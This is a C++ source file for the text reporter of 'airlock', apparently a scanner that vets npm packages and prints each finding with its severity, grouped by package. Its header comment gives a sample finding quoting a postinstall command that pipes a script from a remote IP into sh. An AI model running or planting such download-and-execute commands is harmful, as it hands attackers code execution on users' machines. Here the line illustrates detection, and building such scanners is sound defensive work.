// text reporter: the human-readable report, grouped by target.
//
//   node_modules/evil  (npm-package, evil@1.0.0)
//     HIGH      install-hook-download-exec  package.json:7  postinstall downloads a script ...
//               curl -s http://203.0.113.7/i.sh | sh
//   good.tgz  (npm-tarball, good@2.0.0)  clean
//   airlock: 2 targets, 1 finding (max high) — verdict: block
//
// Findings are printed as they arrive (a long scan shows progress); a target's header is
// printed before its first finding or error, and again if the driver interleaves targets.
// Clean targets are only known at end(), so they are listed last, or counted when there are
// too many to be useful. Every string that came from a package goes through
// sanitize_for_terminal(): the reader's terminal must never see a hostile package's bytes.
#include <fmt/format.h>

#include <map>
#include <ostream>
#include <string>
#include <vector>

#include "report/reporters.h"

namespace airlock::report {
namespace {

// Above this many clean targets (e.g. a node_modules tree) listing each one buries the
// findings; the report says how many there were instead.
constexpr std::size_t kMaxListedClean = 20;
// Evidence is truncated by analyzers already; this cap only keeps one line readable if an
// analyzer hands over something long (e.g. minified code).
constexpr std::size_t kMaxEvidenceChars = 240;
constexpr int kNoTarget = -1;

constexpr std::string_view kReset = "\x1b[0m";
constexpr std::string_view kBold = "\x1b[1m";
constexpr std::string_view kDim = "\x1b[2m";
constexpr std::string_view kRed = "\x1b[31m";
constexpr std::string_view kGreen = "\x1b[32m";
constexpr std::string_view kYellow = "\x1b[33m";

std::string_view severity_color(Severity s) {
  switch (s) {
    case Severity::kCritical:
      return "\x1b[1;35m";  // bold magenta
    case Severity::kHigh:
      return "\x1b[1;31m";  // bold red
    case Severity::kMedium:
      return "\x1b[33m";  // yellow
    case Severity::kLow:
      return "\x1b[36m";  // cyan
    case Severity::kInfo:
      return "\x1b[2m";  // dim
  }
  return "";
}

std::string upper(std::string_view s) {
  std::string out(s);
  for (char& c : out) {
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
  }
  return out;
}

std::string plural(int n, std::string_view word) {
  return fmt::format("{} {}{}", n, word, n == 1 ? "" : "s");
}

class TextReporter : public FindingSink {
 public:
  TextReporter(std::ostream& out, const ReporterOptions& options)
      : out_(out), color_(options.color) {}

  void begin(const RunInfo& run) override { summary_.begin(run); }

  void target(const TargetInfo& t) override {
    summary_.target(t);
    if (!targets_.contains(t.id)) order_.push_back(t.id);
    targets_[t.id] = Entry{t, false};
  }

  void finding(const Finding& f) override {
    summary_.finding(f);
    open(f.target);
    std::string where;
    if (f.location) {
      where = sanitize_for_terminal(f.location->path);
      if (f.location->line > 0) where += fmt::format(":{}", f.location->line);
      where += "  ";
    }
    out_ << "  "
         << paint(severity_color(f.severity), fmt::format("{:<8}", upper(to_string(f.severity))))
         << "  " << sanitize_for_terminal(f.rule) << "  " << where
         << sanitize_for_terminal(f.message) << '\n';
    if (!f.evidence.empty()) {
      out_ << std::string(12, ' ')
           << paint(kDim, sanitize_for_terminal(f.evidence, kMaxEvidenceChars)) << '\n';
    }
  }

  void error(const TargetError& e) override {
    summary_.error(e);
    open(e.target);
    out_ << "  " << paint(kRed, fmt::format("{:<8}", "ERROR")) << "  "
         << sanitize_for_terminal(e.message) << '\n';
  }

  void end() override {
    std::vector<const TargetInfo*> clean;
    for (int id : order_) {
      const Entry& e = targets_.at(id);
      if (!e.reported) clean.push_back(&e.info);
    }
    if (clean.size() <= kMaxListedClean) {
      for (const TargetInfo* t : clean) {
        out_ << header(*t) << "  " << paint(kGreen, "clean") << '\n';
      }
    } else {
      out_ << plural(static_cast<int>(clean.size()), "clean target") << '\n';
    }

    std::string line = fmt::format("airlock: {}, {}", plural(summary_.targets(), "target"),
                                   plural(summary_.findings(), "finding"));
    if (summary_.any_finding()) {
      line += fmt::format(" (max {})", to_string(summary_.max_severity()));
    }
    if (summary_.errors() > 0) line += ", " + plural(summary_.errors(), "error");
    const std::string verdict = summary_.verdict();
    const std::string_view verdict_color = verdict == "block"  ? kRed
                                           : verdict == "warn" ? kYellow
                                                               : kGreen;
    out_ << line << " \u2014 verdict: " << paint(verdict_color, paint(kBold, verdict)) << '\n';
    out_.flush();
  }

 private:
  struct Entry {
    TargetInfo info;
    bool reported = false;  // a header was printed: not clean
  };

  // Prints the header of target `id` unless its block is the one currently open.
  void open(int id) {
    auto it = targets_.find(id);
    if (it != targets_.end()) it->second.reported = true;
    if (id == open_ && any_open_) return;
    any_open_ = true;
    open_ = id;
    if (it != targets_.end()) {
      out_ << header(it->second.info) << '\n';
    } else if (id == kNoTarget) {
      out_ << paint(kBold, "(no target)") << '\n';
    } else {
      out_ << paint(kBold, fmt::format("(target #{})", id)) << '\n';
    }
  }

  std::string header(const TargetInfo& t) const {
    std::string meta = sanitize_for_terminal(t.kind);
    if (!t.name.empty()) {
      meta += (meta.empty() ? "" : ", ") + sanitize_for_terminal(t.name);
      if (!t.version.empty()) {
        // Appended in two steps: "@" + a temporary trips GCC 12's -Wrestrict (a false alarm).
        meta += '@';
        meta += sanitize_for_terminal(t.version);
      }
    }
    std::string h = paint(kBold, sanitize_for_terminal(t.path));
    if (!meta.empty()) h += "  (" + meta + ")";
    return h;
  }

  std::string paint(std::string_view color, std::string_view text) const {
    if (!color_) return std::string(text);
    return fmt::format("{}{}{}", color, text, kReset);
  }

  std::ostream& out_;
  bool color_;
  SummarySink summary_;
  std::map<int, Entry> targets_;
  std::vector<int> order_;  // announcement order, for the clean list
  int open_ = kNoTarget;
  bool any_open_ = false;
};

}  // namespace

std::unique_ptr<FindingSink> make_text_reporter(std::ostream& out, const ReporterOptions& o) {
  return std::make_unique<TextReporter>(out, o);
}

}  // namespace airlock::report
